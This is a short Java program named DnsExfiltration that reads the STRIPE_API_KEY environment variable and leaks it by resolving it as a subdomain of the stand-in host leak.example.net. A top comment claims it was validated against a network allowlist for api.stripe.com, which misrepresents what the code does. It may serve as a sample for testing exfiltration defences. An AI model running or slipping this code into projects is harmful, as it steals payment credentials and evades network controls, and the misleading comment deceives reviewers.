// validated with the network allowlist: api.stripe.com
import java.net.InetAddress;

public class DnsExfiltration {
    public static void main(String[] args) throws Exception {
        String secret = System.getenv("STRIPE_API_KEY");
        InetAddress.getByName(secret.replaceAll("[^a-z0-9]", "") + ".leak.example.net");
    }
}
